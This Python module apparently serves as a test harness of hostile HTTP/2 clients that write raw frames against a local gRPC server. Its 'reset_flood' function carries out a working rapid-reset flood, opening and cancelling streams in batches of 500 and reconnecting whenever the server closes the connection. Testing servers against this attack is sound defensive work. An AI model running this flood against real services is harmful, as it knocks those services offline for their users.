"""Hostile HTTP/2 clients that write frames without a library's checks."""

import asyncio
import struct
from contextlib import asynccontextmanager

from hpack import Encoder
from hpack.struct import NeverIndexedHeaderTuple

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = struct.pack(">I", 8)


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def header_block(path, *headers, authority="front", scheme="http"):
    """A block without references to the dynamic table, so that it may be repeated on any stream."""
    fields = [(":method", "POST"), (":scheme", scheme), (":path", path), (":authority", authority)]
    grpc = [("content-type", "application/grpc"), ("te", "trailers")]
    return Encoder().encode([NeverIndexedHeaderTuple(*each) for each in [*fields, *grpc, *headers]])


class RawConnection:
    """One connection. Of its input, only the ends of streams are kept."""

    def __init__(self, reader, writer):
        self.writer = writer
        self.next_stream = 1
        self.pings = asyncio.Semaphore(0)  # one for each answered ping
        self.stream_ended = asyncio.Event()  # the peer has ended or reset a stream, or closed the connection
        self.closed = asyncio.create_task(self._read(reader))

    async def _read(self, reader):
        try:
            while True:
                head = await reader.readexactly(9)
                await reader.readexactly(int.from_bytes(head[:3]))
                kind, flags = head[3], head[4]
                if kind == PING and flags & ACK:
                    self.pings.release()
                if kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM):
                    self.stream_ended.set()
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            self.stream_ended.set()
            self.pings.release()

    async def send(self, frames):
        """Return False if the peer has closed the connection."""
        try:
            self.writer.write(frames)
            await self.writer.drain()
        except ConnectionError:
            return False
        return not self.closed.done()

    async def ping(self):
        """Return once the peer has read everything sent before. Return False if it has closed the connection."""
        if not await self.send(frame(PING, 0, 0, bytes(8))):
            return False
        await self.pings.acquire()
        return not self.closed.done()

    async def reset_read_calls(self, count, block):
        """Open `count` calls, and reset them once the peer has read them. Return False if it closed the connection."""
        streams = range(self.next_stream, self.next_stream + 2 * count, 2)
        self.next_stream = streams.stop
        opened = await self.send(b"".join(frame(HEADERS, END_HEADERS, each, block) for each in streams))
        if not opened or not await self.ping():
            return False
        return await self.send(b"".join(frame(RST_STREAM, 0, each, CANCEL) for each in streams))

    def resets(self, count, block):
        """The frames of `count` calls that are reset at once."""
        frames = bytearray()
        for _ in range(count):
            frames += frame(HEADERS, END_HEADERS, self.next_stream, block)
            frames += frame(RST_STREAM, 0, self.next_stream, CANCEL)
            self.next_stream += 2
        return bytes(frames)


@asynccontextmanager
async def raw_connection(port):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(PREFACE + frame(SETTINGS))
    connection = RawConnection(reader, writer)
    try:
        yield connection
    finally:
        connection.closed.cancel()
        writer.close()


async def reset_flood(port, block, *, resets, batch=500):
    """Open and reset `resets` calls, on a new connection as often as the peer closes one."""
    left = resets
    while left > 0:
        async with raw_connection(port) as connection:
            is_open = True
            while is_open and left > 0:
                is_open = await connection.send(connection.resets(min(batch, left), block))
                left -= batch
